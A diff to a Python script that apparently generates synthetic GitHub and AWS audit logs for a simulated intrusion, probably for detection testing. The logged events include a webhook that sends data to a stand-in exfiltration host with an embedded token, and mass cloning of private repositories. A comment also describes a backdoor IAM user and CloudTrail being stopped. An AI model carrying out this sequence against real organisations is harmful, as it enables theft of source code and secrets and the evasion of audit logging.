@@ -420,7 +420,12 @@ def attack():
            fingerprint='SHA256:' + h('deploykey')[:43], actor_ip=ATTACKER_IP)
     github(at(14, 45, 20), 'hook.create', 'dk-backup-7', org=ORG, hook_id=4880017, name='webhook', events=['push', 'repository', 'member'], active=True, actor_ip=ATTACKER_IP,
            config={'url': 'https://collector.exfil.example/gh?token=ghp_R8fKc2LmQ9vX3tYw7ZpA1sD4gH6jN0bE5uVi', 'content_type': 'json', 'insecure_ssl': '1'})
-    github(at(14, 46, 2), 'git.clone', 'dk-backup-7', repo='acme-corp/payments-api', repository_public=False, transport_protocol_name='ssh', actor_ip=ATTACKER_IP)
+    # then clones most of the organization's repositories with the new owner account
+    all_repos = REPOS + ['acme-corp/' + r for r in ('billing-service', 'auth-gateway', 'admin-portal', 'ml-models', 'ios-app', 'android-app',
+                                                     'docs', 'helm-charts', 'secrets-rotation', 'customer-exports', 'analytics')]
+    for i, repo in enumerate(all_repos):
+        github(at(14, 46, 2) + dt.timedelta(seconds=11 * i), 'git.clone', 'dk-backup-7', repo=repo, repository_public=False,
+               transport_protocol_name='ssh', actor_ip=ATTACKER_IP)
 
     # 14:50 AWS: federated console session, backdoor IAM user with an access key and admin, CloudTrail stopped
     ident = assumed('AWSReservedSSO_PlatformAdmin_4f1c2d3e', EMAIL[VICTIM])
